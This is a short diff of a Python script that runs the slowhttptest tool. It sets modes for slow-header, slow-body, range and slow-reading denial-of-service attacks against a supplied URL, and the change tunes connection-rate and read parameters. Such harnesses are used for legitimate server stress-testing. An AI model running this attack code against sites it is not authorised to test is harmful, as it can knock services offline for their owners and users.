@@ -19,7 +19,7 @@ MODES = {
     "slow-heads": ["-H", "-i", "1", "-t", "GET", "-x", "24"],
     "slow-bodies": ["-B", "-i", "1", "-s", "8192", "-t", "POST", "-x", "10"],
     "ranges": ["-R", "-a", "10", "-b", "3000"],
-    "slow-reading": ["-X", "-w", "512", "-y", "1024", "-n", "1", "-z", "32", "-k", "3"],
+    "slow-reading": ["-X", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "3"],
 }
 
 
@@ -45,7 +45,7 @@ def run(site):
 
 def attack(url, options):
     finished = subprocess.run(
-        ["slowhttptest", "-c", str(CONNECTION_COUNT), "-r", "500", "-l", str(SECONDS_EACH), "-p", "3", "-u", url,
+        ["slowhttptest", "-c", str(CONNECTION_COUNT), "-r", "200", "-l", str(SECONDS_EACH), "-p", "3", "-u", url,
          *options],
         stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
     return re.sub(r"\x1b\[[0-9;]*m", "", finished.stdout.decode(errors="replace"))
